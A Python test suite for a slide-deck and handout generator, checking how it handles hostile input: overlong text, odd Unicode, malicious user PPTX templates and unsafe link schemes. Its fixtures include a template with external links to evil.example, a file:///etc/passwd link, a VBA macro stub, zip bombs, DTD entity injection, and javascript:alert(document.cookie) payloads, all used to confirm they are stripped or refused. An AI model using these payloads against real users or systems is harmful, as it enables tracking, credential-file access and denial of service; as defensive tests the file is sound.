"""Hostile input to the slide decks (issue 13, adversarial review; docs/security.md "slides and
templates"): texts too long for any box, odd characters, a user's slide template carrying foreign
content or built to explode, and addresses that are not web or e-mail addresses."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from generator.cli import cli
from generator.documents.links import link_target
from generator.documents.slides import boxes
from generator.documents.slides.boxes import EMU_PER_PT, HEIGHT, WIDTH, Placed, paras_height
from generator.documents.slides.drawings import ladder, process
from generator.documents.slides.layout import place_deck
from generator.documents.slides.project_deck import project_deck
from generator.documents.slides.workshop_deck import workshop_deck
from generator.loaded import load_input
from generator.pipeline import build_handout, build_slides
from tests.conftest import COURSE, ROOT, project_yaml, write_tree
from tests.extract import pdf_text, pptx_text, squash

TEMPLATE = (ROOT / "templates" / "slides.pptx").read_bytes()
ODD = "\u200b\ufeffe\u0301\u0301 שלום مرحبا 👩‍👩‍👧 🇳🇴 漢字かな \ufdd0\U0001ffff\u202e"


def q(text: str) -> str:
    """`text` as a YAML double-quoted scalar that loads back to exactly `text` (line and
    paragraph separators escaped: written raw, YAML would fold them)."""
    out = []
    for c in text:
        if c in '"\\':
            out.append("\\" + c)
        elif ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029":
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


def workshop_yaml(**fields: str) -> str:
    """A small valid workshop (no examples) with `fields` (YAML text) put in at their keys."""
    values = {
        "title": q("Et verksted"),
        "venue": q("Rådhuset"),
        "organiser": f"{{name: {q('Diku')}, website: www.diku.no, newsletter: www.siu.no}}",
        "video": f"{{title: {q('Hvorfor?')}, url: 'https://www.youtube.com/watch?v=x'}}",
        "poll": "{url: www.menti.com, code: '12'}",
        "tasks": f"[{{id: why, title: {q('Samarbeid')}, method: think-pair-share, "
        f"prompt: {q('Diskuter.')}, questions: [{q('Hvorfor?')}, {q('Kort?')}]}}]",
        "steps": f"[{{title: {q('Idé')}, text: {q('Finn en idé.')}}}, {{title: Søk, text: Søk.}}]",
        "contacts": f"[{{name: {q('Anne')}, email: anne@diku.no}}]",
        **fields,
    }
    lines = ["format: 1", "id: hostile", "language: nb", "date: 2026-03-01", "call: 2019"]
    lines += [f"{key}: {value}" for key, value in values.items()]
    lines.append("actions: [KA101]")
    lines.append("agenda: [title, video, task:why, poll, steps, contacts]")
    return "\n".join(lines) + "\n"


def gen(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def all_boxes(slide: Placed) -> list[boxes.Box]:
    return [*slide.boxes, *(s.text for s in slide.shapes if s.text is not None)]


def assert_on_the_slide(placed: list[Placed]) -> None:
    """Every text box lies on the page and its text, as measured, fits the box: nothing runs off
    a box or the slide (a title too)."""
    for slide in placed:
        for box in all_boxes(slide):
            where = (slide.key, box.role, box.paras[0].text[:40])
            assert box.x >= 0 and box.y >= 0, where
            assert box.x + box.w <= WIDTH and box.y + box.h <= HEIGHT, where
            assert paras_height(box.paras, box.w) <= box.h / EMU_PER_PT + 0.01, where


def deck_text(placed: list[Placed]) -> str:
    return "".join(p.text for slide in placed for box in all_boxes(slide) for p in box.paras)


# --- 1. texts longer than any box ---------------------------------------------------------------


def test_a_300_character_title_is_cut_in_the_metadata_only(tmp_path: Path) -> None:
    """A 300-character title (and applicant name) crashed (python-pptx: "exceeded 255 char limit
    for property", exit 70). Each core property is cut after a word with "…"; the slides show
    the whole title."""
    title = ("Et svært langt prosjektnavn om grunnleggende ferdigheter " * 6)[:300].strip()
    name = ("Skole " * 60).strip()
    applicant = {"name": name, "type": "school", "country": "NO", "city": "Trondheim"}
    path = write_tree(tmp_path, {"p.yaml": project_yaml(title=title, applicant=applicant)})
    result = gen("slides", str(path / "p.yaml"), "-o", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    from pptx import Presentation

    prs = Presentation(str(tmp_path / "out" / "p" / "slides.pptx"))
    core = prs.core_properties
    for shown, whole in ((core.title, title), (core.author, name)):
        assert len(shown) <= 255 and shown.endswith("…")
        assert whole.startswith(shown[:-1]) and whole[len(shown) - 1] == " "  # after a word
    cover = "".join(s.text_frame.text for s in prs.slides[0].shapes if s.has_text_frame)
    assert title in cover


def _long_workshop(letter: str, where: str) -> str:
    word = letter * 5000
    places = {
        "title": {"title": q(f"Verksted {word}")},
        "venue": {"venue": q(f"Rådhuset {word} salen")},
        "organiser": {"organiser": f"{{name: {q(f'Org {word}')}, website: www.diku.no}}"},
        "video": {"video": f"{{title: {q(f'Video {word}')}, url: www.x.no}}"},
        "task": {
            "tasks": f"[{{id: why, title: {q(word)}, method: groups, prompt: {q(word)}, "
            f"questions: [{q(f'Hvorfor {word} nå?')}, {q('Kort?')}]}}]"
        },
        "step": {"steps": f"[{{title: {q(word)}, text: {q(f'Tekst {word}')}}}, {{title: Søk}}]"},
        "contact": {"contacts": f"[{{name: {q(word)}, email: a@b.no}}]"},
    }
    return workshop_yaml(**places[where])


@pytest.mark.parametrize(
    ("letter", "where"),
    [
        ("A", "title"),
        ("B", "venue"),
        ("C", "organiser"),
        ("D", "video"),
        ("E", "task"),
        ("G", "step"),
        ("H", "contact"),
    ],
)
def test_a_5000_character_word_is_broken_never_cut_nor_off_the_slide(
    tmp_path: Path, letter: str, where: str
) -> None:
    """A 5000-character word (no spaces) anywhere a workshop puts text: every text fits its box on
    the page, the word is there whole (broken over lines and slides), in PPTX and PDF alike."""
    path = write_tree(tmp_path, {"w.yaml": _long_workshop(letter, where)}) / "w.yaml"
    item = load_input(path)
    placed = place_deck(workshop_deck(item), "Et verksted · Diku", "(forts.)")
    assert_on_the_slide(placed)
    assert deck_text(placed).count(letter) >= 5000 * (2 if where in ("task", "step") else 1)
    files = build_slides(item, ["pptx", "pdf"])
    pptx, pdf = files[Path("hostile/slides.pptx")], files[Path("hostile/slides.pdf")]
    assert pptx_text(pptx).count(letter) >= 5000
    assert pdf_text(pdf).count(letter) >= 5000
    from pptx import Presentation

    for slide in Presentation(io.BytesIO(pptx)).slides:
        for shape in slide.shapes:
            assert shape.left >= 0 and shape.left + shape.width <= WIDTH
            assert shape.top >= 0 and shape.top + shape.height <= HEIGHT


@pytest.mark.parametrize("field", ["title", "needs", "procedure", "applicant", "activity"])
def test_a_project_with_a_5000_character_word_keeps_it_whole_on_the_slides(
    tmp_path: Path, field: str
) -> None:
    """The same in a project deck: its cover, a bullet, a column of a two-column slide (the
    selection procedure), the applicant's name (cover subtitle, footer), an activity's title
    (the activities slide has it whole; the timeline's row label ends in "…")."""
    word = "Q" * 5000
    changes: dict[str, object] = {
        "title": {"title": f"Tittel {word}"},
        "needs": {"needs": [{"id": "reading", "text": f"Elevene {word} leser."}]},
        "procedure": {"selection": {"criteria": ["Norsk."], "procedure": word}},
        "applicant": {
            "applicant": {"name": word, "type": "school", "country": "NO", "city": "Trondheim"}
        },
        "activity": {"activities": [{**COURSE, "title": word, "when": "2019-10"}]},
    }[field]
    path = write_tree(tmp_path, {"p.yaml": project_yaml(**changes)}) / "p.yaml"
    item = load_input(path)
    placed = place_deck(project_deck(item), "footer", "(forts.)")
    assert_on_the_slide(placed)
    assert deck_text(placed).count("Q") >= 5000
    files = build_slides(item, ["pptx", "pdf"])
    assert pdf_text(files[Path("p/slides.pdf")]).count("Q") >= 5000


@pytest.mark.parametrize("path", ["workshops/kom-i-gang.yaml", "workshops/kom-i-gang-2026.yaml"])
def test_the_bundled_decks_fit_every_box_on_the_slide(path: str) -> None:
    assert_on_the_slide(place_deck(workshop_deck(load_input(ROOT / path)), "f", "(forts.)"))


def test_a_drawing_that_cannot_fit_its_texts_becomes_a_numbered_list() -> None:
    """Steps (user text) or ladder rungs whose words or texts fit no box even at 10 pt: no
    drawing (it would run off its boxes) but a numbered list, each step's text under it,
    continued over slides; ten steps whose boxes would be too narrow, the same."""
    word = "Z" * 5000
    assert process(({"title": word, "text": ""}, {"title": "Søk", "text": ""})) is None
    assert process(tuple({"title": "Steg", "text": word} for _ in range(2))) is None
    assert process(tuple({"title": f"Steg {i}", "text": ""} for i in range(40))) is None
    assert ladder(({"code": "", "title": word, "text": "x"}, {"code": "K", "title": "y"})) is None
    assert ladder(({"code": "", "title": "x", "text": word}, {"code": "K", "title": "y"})) is None
    from generator.documents.slides.content import TITLE_ONLY, Slide

    steps = ({"title": word, "text": "Finn en idé."}, {"title": "Søk", "text": word})
    placed = place_deck([Slide("steps", TITLE_ONLY, "To steg", steps=steps)], "f", "(forts.)")
    assert_on_the_slide(placed)
    numbered = [p for s in placed for p in s.boxes[1].paras if p.style == "number" and p.marker]
    assert [p.number for p in numbered] == [1, 2]  # a split step keeps its one number
    assert deck_text(placed).count("Z") == 10000


# --- 2. odd characters --------------------------------------------------------------------------


def test_separators_are_line_breaks_and_odd_characters_show_as_written(tmp_path: Path) -> None:
    """U+2028, U+2029 and NEL crashed the measuring (Pillow: "raqm_layout() failed", exit 70).
    They are line breaks on the slide; everything else shows as written."""
    prompt = "Først\u2028så\u2029til slutt\x85ferdig\r\nnå"
    text = workshop_yaml(
        title=q(f"Verksted {ODD}"),
        organiser=f"{{name: {q('Diku' + chr(0x2028) + 'Oslo ' + ODD)}}}",
        tasks=f"[{{id: why, title: {q(ODD)}, method: groups, prompt: {q(prompt)}, "
        f"questions: [{q(ODD)}]}}]",
        steps=f"[{{title: {q(ODD)}, text: {q(ODD)}}}, {{title: Søk}}]",
    )
    path = write_tree(tmp_path, {"w.yaml": text}) / "w.yaml"
    result = gen("slides", str(path), "-o", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    from pptx import Presentation

    prs = Presentation(str(tmp_path / "out" / "hostile" / "slides.pptx"))
    shown = pptx_text((tmp_path / "out" / "hostile" / "slides.pptx").read_bytes())
    # a:br at each separator; a single line break ("\r\n") inside a paragraph is a space, as in
    # every document (docs/project-format.md, "Longer text: blocks")
    assert "Først\x0bså\x0btil slutt\x0bferdig nå" in shown
    assert not re.search("[\u2028\u2029\x85\r]", shown)
    assert shown.count(ODD) >= 4
    assert prs.core_properties.author == "Diku Oslo " + ODD  # one line in the metadata
    assert (tmp_path / "out" / "hostile" / "slides.pdf").stat().st_size > 0


@pytest.mark.parametrize(
    "text", ["\u2028", "\u2029", "\x85", "\r", "a\nb", "\t", ODD, "e" + "\u0301" * 50, ""]
)
def test_measuring_never_raises(text: str) -> None:
    assert boxes.text_width(text, 20) >= 0
    assert boxes.line_count(text, 20, 100) >= 1
    assert "".join(boxes.pieces(text * 40, 20, 50)) == text * 40  # broken, never cut


def test_a_shaper_that_fails_falls_back_per_cluster(monkeypatch: pytest.MonkeyPatch) -> None:
    class Failing:
        def getlength(self, text: str) -> float:
            if len(text) > 1:
                raise RuntimeError("raqm_layout() failed.")
            return 500.0

    # every face (the default and a theme's) is opened by _font_of; widths are cached per face
    monkeypatch.setattr(boxes, "_font_of", lambda face, bold, basic=False: Failing())
    boxes._cluster_width_of.cache_clear()
    try:
        assert boxes.text_width("abc", 10) == 15.0
        assert boxes.text_width("e\u0301", 10) == 10.0  # a cluster no layout measures: an em
    finally:
        boxes._cluster_width_of.cache_clear()


def test_a_character_xml_cannot_carry_is_refused_where_it_stands(tmp_path: Path) -> None:
    path = write_tree(tmp_path, {"w.yaml": workshop_yaml(title='"Verksted \\uffff"')}) / "w.yaml"
    result = gen("slides", str(path), "-o", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert "w.yaml:" in result.output and "title" in result.output


# --- 3. a user's slide template -----------------------------------------------------------------

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAYOUT = "ppt/slideLayouts/slideLayout2.xml"  # Title and Content
FOREIGN = (  # what a template may carry that reaches out of the file or runs
    f'<p:pic xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}">'
    '<p:nvPicPr><p:cNvPr id="50" name="Tracker"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
    '<p:blipFill><a:blip r:link="rIdX1"/></p:blipFill><p:spPr/></p:pic>'
    f'<p:sp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}">'
    '<p:nvSpPr><p:cNvPr id="51" name="Logo"><a:hlinkClick r:id="rIdX2"/></p:cNvPr><p:cNvSpPr/>'
    "<p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    f'<mc:Choice Requires="v"><p:graphicFrame xmlns:p="http://schemas.openxmlformats.org/'
    f'presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{R}"><p:nvGraphicFramePr><p:cNvPr id="52" name="Linked"/><p:cNvGraphicFramePr/>'
    "<p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData "
    'uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="rIdX3" '
    'progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic>'
    "</p:graphicFrame></mc:Choice></mc:AlternateContent>"
)
FOREIGN_RELS = (
    f'<Relationship Id="rIdX1" Type="{R}/image" Target="http://evil.example/pixel.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX2" Type="{R}/hyperlink" Target="file:///etc/passwd" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX3" Type="{R}/oleObject" Target="file://///evil.example/share/x.xlsx" '
    'TargetMode="External"/>'
)


def _entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist()}


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in entries.items():
            z.writestr(name, body)
    return out.getvalue()


def _with_a_sample_slide() -> bytes:
    """The built-in template with a slide of its own that links out (templates often have one)."""
    from pptx import Presentation

    prs = Presentation(io.BytesIO(TEMPLATE))
    layout = next(x for x in prs.slide_layouts if x.name == "Title Only")
    slide = prs.slides.add_slide(layout)
    run = slide.shapes.title.text_frame.paragraphs[0].add_run()
    run.text = "TEMPLATE SAMPLE SLIDE"
    run.hyperlink.address = "http://evil.example/sample"
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def hostile_template() -> bytes:
    """A slide template with an external image, a file:// hyperlink and a linked OLE object in a
    layout, an external link in the master's relationships, a macro project (and the macro
    content type), and a sample slide that links out."""
    entries = _entries(_with_a_sample_slide())
    entries[LAYOUT] = entries[LAYOUT].replace(b"</p:spTree>", FOREIGN.encode() + b"</p:spTree>")
    rels = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
    entries[rels] = entries[rels].replace(
        b"</Relationships>", FOREIGN_RELS.encode() + b"</Relationships>"
    )
    master = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    entries[master] = entries[master].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdX9" Type="{R}/attachedTemplate" '
        'Target="\\\\evil.example\\share\\t.potx" TargetMode="External"/></Relationships>'.encode(),
    )
    presentation = "ppt/_rels/presentation.xml.rels"
    entries[presentation] = entries[presentation].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    entries["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    types = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )
    entries["[Content_Types].xml"] = types.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return _zip(entries)


def with_template(tmp_path: Path, data: bytes, command: str = "slides") -> Result:
    (tmp_path / "t").mkdir(exist_ok=True)
    (tmp_path / "t" / ("slides.pptx" if command == "slides" else "reference.docx")).write_bytes(
        data
    )
    workshop = write_tree(tmp_path, {"w.yaml": workshop_yaml()}) / "w.yaml"
    args = [command, str(workshop), "--templates", str(tmp_path / "t"), "-o", str(tmp_path / "o")]
    return gen(*args)


def external_targets(pptx: bytes) -> list[tuple[str, str, str]]:
    """(part, type, target) of every external relationship in a PPTX."""
    found = []
    for name, body in _entries(pptx).items():
        if name.endswith(".rels"):
            for rel in re.findall(rb"<Relationship [^>]*>", body):
                if b'TargetMode="External"' in rel:
                    kind = re.search(rb'Type="([^"]+)"', rel)
                    target = re.search(rb'Target="([^"]+)"', rel)
                    assert kind and target
                    found.append((name, kind.group(1).decode(), target.group(1).decode()))
    return found


def assert_only_our_links(pptx: bytes) -> None:
    """No external relationship but the hyperlinks gen adds on its slides (http, https, mailto)."""
    for part, kind, target in external_targets(pptx):
        assert part.startswith("ppt/slides/_rels/"), (part, target)
        assert kind.endswith("/hyperlink") and re.match("(https?://|mailto:)", target), target


def test_a_users_template_brings_no_external_or_active_content_into_the_deck(
    tmp_path: Path,
) -> None:
    result = with_template(tmp_path, hostile_template())
    assert result.exit_code == 0, result.output
    pptx = (tmp_path / "o" / "hostile" / "slides.pptx").read_bytes()
    assert_only_our_links(pptx)
    assert {t for _, _, t in external_targets(pptx)} == {
        "https://www.youtube.com/watch?v=x",
        "https://www.menti.com",
    }
    entries = _entries(pptx)
    assert not [n for n in entries if "vbaProject" in n or "oleObject" in n]
    assert b"presentationml.presentation.main+xml" in entries["[Content_Types].xml"]
    assert b"macroEnabled" not in entries["[Content_Types].xml"]
    layout = entries[LAYOUT].decode()
    assert 'name="Logo"' in layout and "hlinkClick" not in layout  # the link only
    assert "Tracker" not in layout and "oleObj" not in layout and "AlternateContent" not in layout
    text = pptx_text(pptx)
    assert "TEMPLATE SAMPLE SLIDE" not in text and text.startswith("Et verksted")
    from pptx import Presentation

    assert len(Presentation(io.BytesIO(pptx)).slides) == len(
        workshop_deck(load_input(tmp_path / "w.yaml"))
    )


def test_the_bundled_decks_link_only_to_their_addresses() -> None:
    pptx = build_slides(load_input(ROOT / "workshops" / "kom-i-gang.yaml"), ["pptx"])
    data = pptx[Path("kom-i-gang/slides.pptx")]
    assert_only_our_links(data)
    assert {t for _, _, t in external_targets(data)} == {
        "https://www.youtube.com/watch?v=QxIgt_0SeEA",
        "https://www.menti.com",
    }


def _dtd(body: bytes) -> bytes:
    head, _, rest = body.partition(b"?>")
    return head + b'?><!DOCTYPE x [<!ENTITY e "aaaaaaaaaa"><!ENTITY f "&e;&e;&e;&e;">]>' + rest


@pytest.mark.parametrize(
    "part", [LAYOUT, "[Content_Types].xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels", "utf16"]
)
def test_a_dtd_in_any_xml_part_of_a_template_is_refused(tmp_path: Path, part: str) -> None:
    entries = _entries(TEMPLATE)
    if part == "utf16":  # not visible as bytes: found by the parser
        part = "ppt/theme/theme1.xml"
        text = _dtd(entries[part]).decode().replace("UTF-8", "UTF-16", 1)
        entries[part] = text.encode("utf-16")
    else:
        entries[part] = _dtd(entries[part])
    result = with_template(tmp_path, _zip(entries))
    assert result.exit_code == 1, result.output
    assert f"slides.pptx: part {part} declares a DTD or entities" in result.output
    assert not (tmp_path / "o").exists()


def _claiming(data: bytes, name: bytes, size: int) -> bytes:
    """`data` with the entry `name` declaring `size` bytes unpacked, in its local header and in
    the central directory."""
    out = bytearray(data)
    # signature, offset of the unpacked size, of the name's length, of the name
    for signature, size_at, length_at, name_at in (
        (b"PK\x03\x04", 22, 26, 30),
        (b"PK\x01\x02", 24, 28, 46),
    ):
        at = out.find(signature)
        while at >= 0:
            length = int.from_bytes(out[at + length_at : at + length_at + 2], "little")
            if out[at + name_at : at + name_at + length] == name:
                out[at + size_at : at + size_at + 4] = size.to_bytes(4, "little")
            at = out.find(signature, at + 4)
    return bytes(out)


def _bomb(megabytes: int) -> bytes:
    """The built-in template with an entry of `megabytes` MiB of zeros (a file of a few hundred
    KiB: deflate packs zeros about a thousand to one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, body in _entries(TEMPLATE).items():
            z.writestr(name, body)
        with z.open("ppt/media/image1.png", "w") as entry:
            chunk = bytes(2**20)
            for _ in range(megabytes):
                entry.write(chunk)
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("claims 4 GiB", "unpacks to 4,295,"),
        ("holds 300 MiB", "unpacks to 314,"),
        ("lies about its size", "is not a valid Office file"),
        ("has 20 000 entries", "has 20026 entries (at most 4096)"),
    ],
)
def test_a_zip_bomb_template_is_refused_at_once(tmp_path: Path, kind: str, message: str) -> None:
    if kind == "claims 4 GiB":
        data = _claiming(_zip(_entries(TEMPLATE)), b"ppt/theme/theme1.xml", 2**32 - 1)
    elif kind == "holds 300 MiB":
        data = _bomb(300)
    elif kind == "lies about its size":
        data = _claiming(_bomb(300), b"ppt/media/image1.png", 1000)
    else:
        data = _zip({**_entries(TEMPLATE), **{f"x/{i}": b"" for i in range(20_000)}})
    assert len(data) < 8 * 2**20
    started = time.monotonic()
    result = with_template(tmp_path, data)
    assert time.monotonic() - started < 10
    assert result.exit_code == 1, result.output
    assert "slides.pptx" in result.output and message in result.output, result.output
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    ("data", "code", "message"),
    [
        (b"just text", 1, "is not a valid Office file"),
        (_zip({"a.txt": b"x"}), 1, "not a PowerPoint presentation"),
        (
            _zip({**_entries(TEMPLATE), LAYOUT: b"<p:sldLayout"}),
            1,
            f"part {LAYOUT} is not well-formed",
        ),
    ],
)
def test_a_template_that_is_no_presentation_is_a_template_error(
    tmp_path: Path, data: bytes, code: int, message: str
) -> None:
    result = with_template(tmp_path, data)
    assert result.exit_code == code, result.output
    assert message in result.output


def test_a_template_layout_without_its_placeholders_is_a_clear_error(tmp_path: Path) -> None:
    entries = _entries(TEMPLATE)
    entries[LAYOUT] = re.sub(rb'<p:sp><p:nvSpPr><p:cNvPr id="3".*?</p:sp>', b"", entries[LAYOUT])
    result = with_template(tmp_path, _zip(entries))
    assert result.exit_code == 3, result.output
    assert "the layout Title and Content has no placeholder idx 1" in result.output


def test_a_huge_or_special_template_file_is_refused_unread(tmp_path: Path) -> None:
    (tmp_path / "t").mkdir()
    with open(tmp_path / "t" / "slides.pptx", "wb") as big:
        big.truncate(65 * 2**20)  # sparse: nothing is written
    workshop = write_tree(tmp_path, {"w.yaml": workshop_yaml()}) / "w.yaml"
    result = gen(
        "slides", str(workshop), "--templates", str(tmp_path / "t"), "-o", str(tmp_path / "o")
    )
    assert result.exit_code == 1 and "is larger than 64 MiB" in result.output


def test_a_users_reference_docx_is_read_within_the_same_limits(tmp_path: Path) -> None:
    """A reference.docx in --templates is an override point too (tests/test_overrides.py),
    read like slides.pptx: a zip bomb there is refused at once."""
    start = time.perf_counter()
    result = with_template(
        tmp_path, _claiming(_zip(_entries(TEMPLATE)), b"ppt/theme/theme1.xml", 2**32 - 1), "handout"
    )
    assert result.exit_code == 1 and "reference.docx" in result.output, result.output
    assert "unpacks to" in result.output and time.perf_counter() - start < 10


# --- 4. links ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("https://www.youtube.com/watch?v=x", "https://www.youtube.com/watch?v=x"),
        ("HTTP://EXAMPLE.ORG", "HTTP://EXAMPLE.ORG"),
        ("www.menti.com", "https://www.menti.com"),
        ("menti.com:8080/abc", "https://menti.com:8080/abc"),
        ("anne@diku.no", "mailto:anne@diku.no"),
        ("mailto:anne@diku.no", "mailto:anne@diku.no"),
        ("javascript:alert(1)", None),
        ("JavaScript://%0aalert(1)", None),
        ("file:///etc/passwd", None),
        ("file://server/share", None),
        ("\\\\server\\share", None),
        ("data:text/html,<script>", None),
        ("vbscript:msgbox", None),
        ("ftp://example.org", None),
        ("https://", None),
        ("https://example.org/a b", None),
        ("https://example.org\u202e", None),
        ("localhost", None),
        ("mailto:javascript", None),
        ("", None),
    ],
)
def test_only_web_and_email_addresses_are_links(text: str, target: str | None) -> None:
    assert link_target(text) == target


HOSTILE_LINKS = workshop_yaml(
    organiser="{name: Diku, website: 'javascript:alert(1)', newsletter: 'file:///etc/passwd'}",
    video="{title: Video, url: 'javascript:alert(document.cookie)'}",
    poll="{url: 'file://server/share/x', code: '12'}",
    contacts="[{name: Anne, email: 'javascript:alert(1)'}, {email: 'file:///etc/passwd'}]",
)


def test_an_address_that_is_not_a_link_shows_as_plain_text_in_the_deck(tmp_path: Path) -> None:
    item = load_input(write_tree(tmp_path, {"w.yaml": HOSTILE_LINKS}) / "w.yaml")
    shown_as = {s.key: s.body[0].style for s in workshop_deck(item) if s.key in ("video", "poll")}
    assert shown_as == {"video": "plain", "poll": "plain"}  # not in a link's colour either
    files = build_slides(item, ["pptx", "pdf"])
    pptx, pdf = files[Path("hostile/slides.pptx")], files[Path("hostile/slides.pdf")]
    assert external_targets(pptx) == []
    assert b"hlinkClick" not in b"".join(_entries(pptx).values())
    text = pptx_text(pptx)
    for shown in (
        "javascript:alert(document.cookie)",
        "file://server/share/x",
        "file:///etc/passwd",
    ):
        assert shown in text
    assert_no_link_annotations(pdf)


def assert_no_link_annotations(pdf: bytes) -> None:
    from pypdf import PdfReader

    for page in PdfReader(io.BytesIO(pdf)).pages:
        for annotation in page.get("/Annots") or []:
            assert annotation.get_object().get("/Subtype") != "/Link"


@pytest.mark.parametrize("workshop", ["hostile", "kom-i-gang"])
def test_the_handout_makes_no_links(workshop: str, tmp_path: Path) -> None:
    """The handout shows addresses as text in every format: no hyperlink in the DOCX or ODT, no
    <a> in the HTML, no link annotation in the PDF (for a web address neither)."""
    path = (
        write_tree(tmp_path, {"w.yaml": HOSTILE_LINKS}) / "w.yaml"
        if workshop == "hostile"
        else ROOT / "workshops" / "kom-i-gang.yaml"
    )
    files = {
        p.suffix[1:]: d
        for p, d in build_handout(load_input(path), ["docx", "odt", "html", "pdf"]).items()
    }
    docx = _entries(files["docx"])
    assert b"hyperlink" not in docx["word/_rels/document.xml.rels"]
    assert b"<w:hyperlink" not in docx["word/document.xml"]
    assert b"<text:a " not in _entries(files["odt"])["content.xml"]
    assert b"<a " not in files["html"]
    assert_no_link_annotations(files["pdf"])
    if workshop == "hostile":
        assert "javascript:alert(1)" in squash(pdf_text(files["pdf"])) or "javascript" in pdf_text(
            files["pdf"]
        )
